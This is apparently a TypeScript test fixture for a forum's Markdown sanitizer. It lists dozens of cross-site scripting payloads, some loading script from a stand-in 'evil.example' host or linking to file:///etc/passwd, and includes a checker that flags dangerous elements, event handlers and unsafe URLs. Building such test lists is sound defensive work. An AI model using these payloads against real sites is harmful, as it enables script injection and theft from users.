/**
 * Well-known cross-site scripting payloads, after the OWASP filter evasion cheat sheet and the
 * PortSwigger XSS cheat sheet, plus Markdown-specific ones: links, images, autolinks, reference
 * definitions and footnotes with dangerous URLs, spelt every way a browser accepts.
 */
export const XSS_PAYLOADS: readonly string[] = [
  // Raw HTML
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<img src=x onerror=alert(1)>',
  '<img src="x:gif" onerror="window[\'al\'+\'ert\'](1)">',
  '<IMG SRC=JaVaScRiPt:alert(1)>',
  '<img src=`javascript:alert(1)`>',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="https://example.com" onclick="alert(1)">click</a>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<marquee onstart=alert(1)>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction="javascript:alert(1)">go</button>',
  '<base href="javascript:alert(1)//">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="javascript:alert(1)">',
  '<style>@import "javascript:alert(1)";</style>',
  '<div style="background:url(javascript:alert(1))">x</div>',
  '<div style="width: expression(alert(1))">x</div>',
  '<!-- <img src=x onerror=alert(1)> -->',
  '<!--><script>alert(1)</script>-->',
  '<![CDATA[<script>alert(1)</script>]]>',
  // Markdown links
  '[click](javascript:alert(1))',
  '[click](JaVaScRiPt:alert(1))',
  '[click](javascript&#58;alert(1))',
  '[click](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))',
  '[click](&#x6A;avascript:alert(1))',
  '[click](<java\tscript:alert(1)>)',
  '[click](<java\nscript:alert(1)>)',
  '[click]( javascript:alert(1))',
  '[click](\u0001javascript:alert(1))',
  '[click](javascript%3Aalert(1))',
  '[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[click](vbscript:msgbox(1))',
  '[click](file:///etc/passwd)',
  '[click](#" onclick="alert(1))',
  '[click](https://example.com "onmouseover=alert(1)")',
  '[<img src=x onerror=alert(1)>](https://example.com)',
  // Markdown images
  '![x](javascript:alert(1))',
  '![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)',
  '![x](https://evil.example/x.png" onerror="alert(1))',
  '![<script>alert(1)</script>](https://evil.example/x.png)',
  // Autolinks, literal URLs and reference links
  '<javascript:alert(1)>',
  '<JAVASCRIPT:alert(1)>',
  '<data:text/html,<script>alert(1)</script>>',
  '<vbscript:msgbox(1)>',
  'www.javascript:alert(1).com',
  'javascript:alert(1)',
  'http://example.com/<script>alert(1)</script>',
  'https://example.com/"onmouseover="alert(1)',
  '[a][ref]\n\n[ref]: javascript:alert(1)',
  '[a][ref]\n\n[ref]: <javascript:alert(1)> "title"',
  '[ref]\n\n[ref]: data:text/html,<script>alert(1)</script>',
  // Code, footnotes, tables, task lists
  '```html\n<script>alert(1)</script>\n```',
  '`<script>alert(1)</script>`',
  'Note[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '| a | b |\n|---|---|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |',
  '- [ ] <img src=x onerror=alert(1)>',
  // Encodings that must stay text
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
];

const DANGEROUS_ELEMENTS = [
  'script',
  'iframe',
  'object',
  'embed',
  'frame',
  'frameset',
  'base',
  'meta',
  'link',
  'style',
  'applet',
  'math',
];
const URL_ATTRIBUTES = [
  'href',
  'src',
  'action',
  'formaction',
  'xlink:href',
  'data',
  'poster',
  'background',
  'cite',
  'srcset',
];

/** Whether a URL in the page is http(s), mailto or relative, the way a browser would read it. */
export function isSafeUrl(value: string): boolean {
  try {
    const url = new URL(value, 'https://forum.example/questions/question-1/slug');
    return ['http:', 'https:', 'mailto:'].includes(url.protocol);
  } catch {
    return false;
  }
}

/**
 * Everything in `root` that could run script: dangerous elements, event handler attributes, URLs
 * with other protocols, `srcdoc` and script in styles. Empty when the DOM is safe.
 */
export function unsafeParts(root: ParentNode): string[] {
  const problems: string[] = [];
  for (const element of root.querySelectorAll('*')) {
    const tag = element.tagName.toLowerCase();
    if (DANGEROUS_ELEMENTS.includes(tag)) problems.push(`<${tag}>`);
    for (const { name, value } of element.attributes) {
      const attribute = name.toLowerCase();
      if (attribute.startsWith('on')) problems.push(`<${tag} ${attribute}>`);
      if (attribute === 'srcdoc') problems.push(`<${tag} srcdoc>`);
      if (URL_ATTRIBUTES.includes(attribute) && !isSafeUrl(value)) {
        problems.push(`<${tag} ${attribute}="${value}">`);
      }
      if (attribute === 'style' && /expression|javascript|url\(/i.test(value)) {
        problems.push(`<${tag} style="${value}">`);
      }
    }
  }
  return problems;
}
